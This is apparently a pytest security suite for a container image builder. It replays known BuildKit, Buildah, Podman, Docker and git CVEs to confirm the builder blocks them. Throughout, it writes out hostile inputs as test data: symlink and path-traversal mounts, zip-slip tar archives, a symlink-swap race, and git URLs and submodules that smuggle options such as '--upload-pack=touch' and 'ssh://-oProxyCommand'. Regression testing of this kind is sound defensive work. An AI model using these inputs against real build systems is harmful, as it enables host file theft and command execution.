"""Attacks by Dockerfiles, build contexts and repositories."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from pyruntime.images.lookup import find
from pyruntime.images.make import derive
from pyruntime.images.store.store import Store
from tests.builder.integration.conftest import Builder, write
from tests.images.integration.hostile import file, hardlink, symlink, tar
from tests.security.conftest import SECRET, Outside

ROUNDS = 6
OFFLINE = ("--network", "none", "--progress", "plain")


def built(builder: Builder, context: Path, *flags: str) -> str:
    """Build, which may fail; return the output."""
    done = builder("build", *OFFLINE, "--no-cache", "-t", "app", *flags, context)
    return done.stdout + done.stderr


# --- mounts of RUN ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("flags", ["", ",rw", ",ro"])
@pytest.mark.parametrize("link", ["/", "{away}", "../../../../../../../..{away}", "/proc/1/root{away}",
                                  "/proc/self/cwd/../../../../../..{away}"])
def test_the_source_of_a_bind_mount_is_a_link(link: str, flags: str, builder: Builder, outside: Outside, tmp_path: Path
                                              ) -> None:
    """CVE-2024-1753 (Buildah, Podman): an image's link as the source of RUN --mount=type=bind mounted the host's
    root."""
    away = str(outside.path)
    text = (f"FROM busybox AS other\nRUN ln -s {link.format(away=away)} /link\nFROM busybox\n"
            f"RUN --mount=type=bind,from=other,source=/link,target=/m{flags} cat /m/canary /m{away}/canary;"
            f" echo planted >/m/canary; echo planted >/m{away}/canary; rm -rf /m{away}; ls -l /m\n")
    said = built(builder, write(tmp_path / "context", text, {}))
    assert SECRET not in said
    outside.check()


def test_a_link_of_the_context(builder: Builder, outside: Outside, tmp_path: Path) -> None:
    """CVE-2024-1753 by the context, and CVE-2022-4122, CVE-2022-4123 (Podman: .containerignore and .dockerignore were
    followed out of the context): COPY, --mount and ignore files stay inside."""
    (outside.path / "canary").write_text("")   # if the ignore file were read, the file would not be shown
    (outside.path / "canary").write_text(SECRET)
    away = str(outside.path)
    for line in ("COPY link/canary /c", "COPY link /c", "ADD link/canary /c", "COPY . /c",
                 "RUN --mount=type=bind,source=link,target=/c true", f"COPY ../../../../../..{away}/canary /c",
                 f"COPY {away}/canary /c"):
        context = write(tmp_path / "context", f"FROM busybox\n{line}\nRUN find /c -type f -exec cat {{}} ';'\n", {})
        if not (context / "link").is_symlink():
            (context / "link").symlink_to(away)
            (context / ".dockerignore").symlink_to(f"{away}/canary")
        assert SECRET not in built(builder, context), line


@pytest.mark.parametrize("option", [
    "bind-propagation=rshared", "bind-propagation=shared", "propagation=rshared", "rshared", "shared", "dev", "suid",
    "exec", "relabel=shared", "z", "U", "bind-nonrecursive", "upperdir=/", "lowerdir=/", "o=upperdir=/"])
def test_options_of_a_mount_that_reach_the_host(option: str, builder: Builder, tmp_path: Path) -> None:
    """CVE-2024-9407 (Buildah: options were passed to mount(2) unchecked): options that Docker lacks are refused."""
    text = f"FROM busybox\nRUN --mount=type=bind,source=.,target=/m,{option} true\n"
    said = builder.fails("build", *OFFLINE, write(tmp_path / "context", text, {}))
    assert option.partition("=")[0] in said and "Dockerfile:2" in said


@pytest.mark.parametrize("name", ["../../../../../..{away}", "{away}", "..", ".", "a/../../../../../../../..{away}",
                                  "link"])
def test_the_name_of_a_cache_is_a_path(name: str, builder: Builder, outside: Outside, tmp_path: Path) -> None:
    """CVE-2024-9675 (Buildah, Podman): id= of a cache mount led to any directory of the host."""
    name = name.format(away=outside.path)
    text = (f"FROM busybox\nRUN --mount=type=cache,id={name},target=/m ls -R /m; echo planted >/m/canary; cat /m/*\n"
            f"RUN --mount=type=cache,id=x,source={name},target=/m cat /m/canary; echo planted >/m/canary; ls /m\n")
    assert SECRET not in built(builder, write(tmp_path / "context", text, {}))
    outside.check()


def test_a_cache_whose_content_becomes_a_link(builder: Builder, outside: Outside, tmp_path: Path) -> None:
    """CVE-2024-23651 (BuildKit), CVE-2024-11218 (Buildah, Podman): parallel steps share a cache, or a directory in
    another mount, and replace a directory in it by a link while the other step mounts it. Raced."""
    away = outside.path
    swap = ("i=0; while [ $i -lt 400 ]; do mv /m/d /m/e; ln -s {} /m/d; rm /m/d; mkdir -p /m/e; mv /m/e /m/d;"
            " i=$((i+1)); done")
    text = ("FROM busybox AS one\n"
            f"RUN --mount=type=cache,id=c,target=/m,sharing=shared mkdir -p /m/d/empty; {swap.format(away)}; true\n"
            "FROM busybox AS two\n"
            "RUN --mount=type=cache,id=c,target=/m,sharing=shared --mount=type=tmpfs,target=/m/d/empty"
            " cat /m/d/canary; touch /m/d/empty/x; true\n"
            "RUN --mount=type=cache,id=c,source=d,target=/n,sharing=shared cat /n/canary; echo no >/n/canary; true\n"
            "RUN --mount=type=cache,id=c,target=/m,sharing=shared --mount=type=bind,source=.,target=/m/d/bound"
            " cat /m/d/canary; true\n"
            "FROM busybox\nCOPY --from=one /etc/passwd /1\nCOPY --from=two /etc/passwd /2\n")
    context = write(tmp_path / "context", text, {"file": "x"})
    for _ in range(ROUNDS):
        assert SECRET not in built(builder, context)
        outside.check()


@pytest.mark.parametrize("mount", ["type=tmpfs,target=/a/empty/inner", "type=cache,target=/a/empty/inner",
                                   "type=bind,source=.,target=/a/empty/inner", "type=secret,id=s,target=/a/canary"])
def test_mount_points_behind_a_link_are_removed(mount: str, builder: Builder, outside: Outside, tmp_path: Path
                                                    ) -> None:
    """CVE-2024-23652 (BuildKit): mount points are removed after the step, which has placed a link to
    the host at their path."""
    (tmp_path / "secret").write_text("s")
    text = (f"FROM busybox\nRUN --mount={mount} mount; umount /a/empty/inner /a/canary; mv /a /b; rm -rf /a;"
            f" ln -s {outside.path} /a; ls -l /\n")
    built(builder, write(tmp_path / "context", text, {}), "--secret", f"id=s,src={tmp_path}/secret")
    outside.check()


# --- privileges in a Dockerfile -------------------------------------------------------------------------------------


@pytest.mark.parametrize("line", ["RUN --security=insecure id", "RUN --network=host id", "RUN --device=/dev/sda id",
                                  "RUN --mount=type=bind,source=/,target=/h,from=host id"])
def test_privileges_that_were_not_granted(line: str, builder: Builder, tmp_path: Path) -> None:
    """CVE-2024-23653 (BuildKit: privileges without an entitlement): refused before any step, unless the command line
    grants them; and there is no interface for requests from a step to the builder."""
    context = write(tmp_path / "context", f"FROM busybox\n{line}\n", {})
    assert "uid=" not in builder.fails("build", *OFFLINE[2:], context)
    text = "FROM busybox\nRUN find / -xdev -type s; ls /run /var/run /tmp; env\n"
    done = builder("build", *OFFLINE, write(tmp_path / "other", text, {}))
    assert ".sock" not in done.stderr and "GRPC" not in done.stderr


@pytest.mark.parametrize("first", ["# syntax=evil.invalid/frontend:1", "#syntax = evil.invalid/frontend"])
def test_frontends_are_not_loaded(first: str, builder: Builder, tmp_path: Path) -> None:
    """CVE-2026-33747, CVE-2024-23650 (BuildKit: a frontend from an image writes files of the host, or crashes
    the builder): frontends are never loaded or run; only the builder parses the Dockerfile."""
    context = write(tmp_path / "context", f"{first}\nFROM busybox\nRUN echo made\n", {})
    said = built(builder, context, "--build-arg", "BUILDKIT_SYNTAX=evil.invalid/frontend")
    assert "made" in said and "cannot find the host" not in said


@pytest.mark.parametrize("text", [
    "FROM busybox\nRUN --mount= true\n", "FROM busybox\nRUN --mount=type=cache true\n", "FROM\n", "FROM busybox AS\n",
    "FROM busybox\nCOPY --from=9 a b\n", "FROM a AS a\nFROM a AS a\nCOPY --from=a a a\n", "RUN true\n", "\0\0\0", "",
    "FROM busybox\nCOPY --chmod=99999999999 a b\n", "FROM busybox\nHEALTHCHECK --interval=99999999999999h CMD a\n",
    "FROM busybox\nHEALTHCHECK --interval=" + "9" * 400 + "h CMD a\n",
    "FROM busybox\nRUN <<A <<B <<C\n", "FROM busybox\nEXPOSE 1-99999999999\n", "FROM busybox\nENV " + "a=${a:-" * 5000,
    "ARG a=b\n" * 2000 + "FROM $a\n", "FROM busybox\nUSER " + "9" * 5000 + "\nRUN id\n"])
def test_invalid_dockerfiles(text: str, builder: Builder, tmp_path: Path) -> None:
    """CVE-2024-23650 (BuildKit: a request crashed the daemon): an immediate error with a line number."""
    said = builder.fails("build", *OFFLINE, write(tmp_path / "context", text, {}))
    assert "error: " in said and len(said) < 20000


def test_a_step_does_not_see_the_callers_environment(builder: Builder, tmp_path: Path) -> None:
    """CVE-2021-3602 (Buildah: the environment of the host in RUN), and credentials in published data, as in
    CVE-2023-26054: the caller's environment variables are neither in a step nor in the image."""
    text = "FROM busybox\nARG GIVEN\nRUN env; cat /proc/1/environ /proc/1/cmdline; ls -a / /root /tmp\n"
    context = write(tmp_path / "context", text, {})
    variables = {"AWS_SECRET_ACCESS_KEY": SECRET, "HTTP_PROXY": f"http://user:{SECRET}@127.0.0.1:1/",
                 "http_proxy": f"http://user:{SECRET}@127.0.0.1:1/"}
    done = builder("build", *OFFLINE, "-t", "app", context, env=variables)
    assert done.returncode == 0 and "GIVEN" not in done.stderr
    assert SECRET not in done.stderr and SECRET not in builder.ok("inspect", "app")


def test_capabilities_of_a_step(builder: Builder, tmp_path: Path) -> None:
    """CVE-2022-27651 (Buildah), CVE-2022-27649 (Podman), CVE-2022-24769 (Docker): no inheritable capabilities;
    CVE-2018-10856 (Podman): none at all for users other than root."""
    text = ("FROM busybox\nRUN grep Cap /proc/self/status\nUSER 1000\nRUN echo as user; grep Cap /proc/self/status;"
            " grep -c . /proc/self/status\n")
    said = built(builder, write(tmp_path / "context", text, {}))
    root, _, user = said.replace("RUN echo as user", "").partition("as user")
    assert root.count("CapInh:\t0000000000000000") >= 1 and "CapAmb:\t0000000000000000" in root
    for name in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
        assert f"{name}:\t0000000000000000" in user, user


@pytest.mark.timeout(120)
@pytest.mark.parametrize("node", ["mkfifo /etc/passwd", "ln -s /dev/zero /etc/passwd", "ln -s /proc/kmsg /etc/passwd",
                                  "ln -s {away}/canary /etc/passwd", "mknod /etc/passwd c 1 5"])
def test_a_passwd_that_is_not_a_file(node: str, builder: Builder, outside: Outside, tmp_path: Path) -> None:
    """CVE-2024-9676 (containers/storage): /etc/passwd and /etc/group of an image were read through links and pipes: the
    builder hung, or read files of the host. RUN, USER, COPY --chown and `run` must not."""
    commands = [node.format(away=outside.path), node.format(away=outside.path).replace("passwd", "group")]
    text = f"FROM busybox\nRUN rm /etc/passwd /etc/group; {'; '.join(commands)}\n"
    builder.build(write(tmp_path / "base", text, {}), "-t", "base", *OFFLINE)
    for line in ("USER a secret of the host\nRUN true", "COPY --chown=someone:else f /f", "USER 5:5\nRUN true"):
        said = built(builder, write(tmp_path / "context", f"FROM base\n{line}\n", {"f": "x"}))
        assert ("has no user" in said) == ("5:5" not in line), said
    builder.ok("run", "--rm", "--network", "none", "-u", "7", "base", "true")
    assert "has no user" in builder.fails("run", "--rm", "--network", "none", "-u", "joe", "base", "true", status=125)


# --- the cache --------------------------------------------------------------------------------------------------------


def test_an_image_that_pretends_to_be_a_step(builder: Builder, tmp_path: Path) -> None:
    """CVE-2024-24557 (Docker's classic builder): the history of a pulled image made it a cache of steps. Only
    local builds and named caches are used; and each instruction is a part of the key."""
    context = write(tmp_path / "context", "FROM busybox\nCOPY file /file\nHEALTHCHECK CMD good\n", {"file": "good"})
    builder.build(context, "-t", "honest", *OFFLINE)
    evil = tmp_path / "evil"
    (evil / "root").mkdir(parents=True)
    (evil / "root/file").write_text("evil")
    subprocess.run(["tar", "-C", evil / "root", "-cf", evil / "evil.tar", "."], check=True)
    builder.ok("rmi", "honest")
    builder.ok("builder", "prune", "-a", "-f")
    store = Store.open(str(builder.store))
    with store.lease():   # an image with the history of the genuine image, and another file
        builder.ok("import", evil / "evil.tar", "evil")
        evil_one = derive(store, find(store, "evil"), None, created="2024-01-01T00:00:00Z",
                          created_by="COPY file /file", changes={"Healthcheck": {"Test": ["CMD-SHELL", "good"]}})
        store.tag("docker.io/library/app:latest", evil_one)
    for change in ("good", "other"):
        write(context, f"FROM busybox\nCOPY file /file\nHEALTHCHECK CMD {change}\n", {"file": "good"})
        builder.build(context, "-t", "app", *OFFLINE)
        assert builder.ok("run", "--rm", "--network", "none", "app", "cat", "/file") == "good"
        assert change in builder.ok("inspect", "-f", "{{json .Config.Healthcheck}}", "app")


# --- archives and repositories ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["ADD", "context"])
@pytest.mark.parametrize("attack", ["up", "link", "hard link", "link over a directory"])
def test_an_archive_that_leaves_its_directory(attack: str, how: str, builder: Builder, outside: Outside, tmp_path: Path
                                              ) -> None:
    """CVE-2020-10696 (Buildah), CVE-2014-9356 (Docker), "zip slip": archives that ADD extracts, and contexts on
    standard input."""
    away = str(outside.path).encode()
    archive = {"up": tar(file(b"../" * 20 + away[1:] + b"/canary")),
               "link": tar(symlink(b"l", away), file(b"l/canary")),
               "hard link": tar(symlink(b"l", away), hardlink(b"h", b"l/canary")),
               "link over a directory": tar(symlink(b"l", away), file(b"l/empty/inner/x"), file(b"l/.wh.canary"))}
    if how == "ADD":
        context = write(tmp_path / "context", "FROM busybox\nRUN mkdir /d\nADD evil.tar /d/\n"
                        "RUN find /d -type f -exec cat {} ';'\n", {})
        (context / "evil.tar").write_bytes(archive[attack])
        said = built(builder, context)
    else:
        dockerfile = file(b"Dockerfile", b"FROM busybox\nCOPY . /d\nRUN find /d -type f -exec cat {} ';'\n")
        (tmp_path / "context.tar").write_bytes(dockerfile + archive[attack])
        with (tmp_path / "context.tar").open("rb") as stdin:
            done = builder("build", *OFFLINE, "-", stdin=stdin)
        said = done.stdout + done.stderr
    assert SECRET not in said
    outside.check()


@pytest.fixture
def repository(outside: Outside, tmp_path: Path) -> str:
    """The URL of a repository with links to the host, whose Dockerfile prints every file of its context."""
    work = write(tmp_path / "evil.git", "FROM busybox\nCOPY . /c\nRUN find /c -type f -exec cat {} ';'; echo built\n", {
        "abs": f"-> {outside.path}", "rel": "-> ../../../../../../../../../../.." + str(outside.path), "root": "-> /",
        "git": "-> .git", "d/Dockerfile": "FROM busybox\nRUN echo inner\n", "d/up": "-> ../.."})
    identity = ["-c", "user.name=a", "-c", "user.email=a@example.org"]
    for words in (["init", "-q", "-b", "main"], ["add", "."], [*identity, "commit", "-q", "-m", "x"]):
        subprocess.run(["git", "-C", work, *words], check=True)
    return f"file://{work}"


@pytest.mark.parametrize("below", ["abs", "rel", "root", "root{away}", "d/up/../..{away}", "../../../../../../..{away}",
                                   "{away}", "..", "d/../../..", "/proc/self/root{away}", "git"])
def test_the_directory_of_a_repository(below: str, builder: Builder, repository: str, outside: Outside) -> None:
    """CVE-2026-33748 (BuildKit), also in Docker's classic builder: URL#REF:DIRECTORY led out of the
    repository."""
    (outside.path / "Dockerfile").write_text(f"FROM busybox\nRUN echo {SECRET}\n")
    outside.before = outside.state()
    done = builder("build", *OFFLINE, "--no-cache", f"{repository}#main:{below.format(away=outside.path)}")
    assert SECRET not in done.stdout + done.stderr
    assert done.returncode == 0 or "in the repository" in done.stderr or "has no Dockerfile" in done.stderr, done.stderr


def test_links_in_a_repository(builder: Builder, repository: str, outside: Outside) -> None:
    """Class of CVE-2024-32002: the links of a repository do not lead out of the context."""
    done = builder("build", *OFFLINE, "--no-cache", repository)
    assert SECRET not in done.stdout + done.stderr


@pytest.mark.parametrize("url", [
    "{repository}#--upload-pack=touch {mark};:", "{repository}#--upload-pack=touch${{IFS}}{mark}",
    "{repository}#-u./evil", "git+ssh://-F{mark}/x.git",
    "{repository}#main --upload-pack=touch", "{repository}#:--help", "{repository}#+refs/heads/*",
    "ssh://-oProxyCommand=touch%20{mark}/x.git", "git@-oProxyCommand=touch {mark}:x.git", "git://-upload-pack=x/y.git",
    "git+ext::sh -c touch% {mark}", "git+fd::17", "git+-u touch {mark}", "https://-x/y.git"])
def test_a_repository_whose_name_is_an_option(url: str, builder: Builder, repository: str, tmp_path: Path) -> None:
    """CVE-2019-13139 (Docker: the ref was an option of git), CVE-2017-1000117 (git: a host is an option of ssh),
    CVE-2018-17456: no part of a URL is an option or a command."""
    mark = tmp_path / "mark"
    builder("build", *OFFLINE, url.format(repository=repository, mark=mark), timeout=60)
    text = f"FROM busybox\nADD {url.format(repository='git://127.0.0.1:1/x.git', mark=mark).replace(' ', '%20')} /x/\n"
    builder.fails("build", *OFFLINE, write(tmp_path / "context", text, {}))
    assert not mark.exists()


@pytest.mark.parametrize(("name", "path", "url"), [
    ("../../hooks", "sub", "{work}"), ("sub", "sub", "-u./payload"), ("sub", "sub", "ext::sh -c touch% {mark}"),
    ("sub", ".git/hooks", "{work}"), ("sub", "sub", "ssh://-oProxyCommand=touch%20{mark}/x"), ("sub", "sub", "{work}")])
def test_submodules(name: str, path: str, url: str, builder: Builder, repository: str, tmp_path: Path) -> None:
    """CVE-2018-11235, CVE-2018-17456, CVE-2022-39253, CVE-2024-32002 (git): submodules that contain hooks, are options,
    or copy files of the host. None of their hooks and commands is run."""
    mark = tmp_path / "mark"
    work = Path(repository.removeprefix("file://"))
    (work / "payload").write_text(f"#!/bin/sh\ntouch {mark}\n")
    (work / "payload").chmod(0o755)
    (work / ".gitmodules").write_text(
        f'[submodule "{name}"]\n\tpath = {path}\n\turl = {url.format(work=work, mark=mark)}\n'
        f"\tupdate = !touch {mark}\n")
    head = subprocess.run(["git", "-C", work, "rev-parse", "HEAD"], capture_output=True, text=True, check=True)
    identity = ["-c", "user.name=a", "-c", "user.email=a@example.org"]
    for words in (["add", "payload", ".gitmodules"], ["update-index", "--add", "--cacheinfo",
                                                     f"160000,{head.stdout.strip()},{path}"]):
        subprocess.run(["git", "-C", work, *words], check=False, capture_output=True)   # git itself refuses some
    subprocess.run(["git", "-C", work, *identity, "commit", "-q", "-m", "y"], check=True)
    builder("build", *OFFLINE, repository)
    assert not mark.exists()


def test_hooks_and_filters_of_the_caller(builder: Builder, repository: str, tmp_path: Path) -> None:
    """A template, hook or filter in the caller's git configuration is not run for an untrusted repository."""
    mark, home = tmp_path / "mark", tmp_path / "home"
    hook = home / "template/hooks/post-checkout"
    hook.parent.mkdir(parents=True)
    hook.write_text(f"#!/bin/sh\ntouch {mark}\n")
    hook.chmod(0o755)
    (home / ".gitconfig").write_text(f"[init]\n\ttemplateDir = {home}/template\n"
                                     f"[core]\n\thooksPath = {home}/template/hooks\n")
    builder("build", *OFFLINE, repository, env={"HOME": str(home)})
    assert not mark.exists()
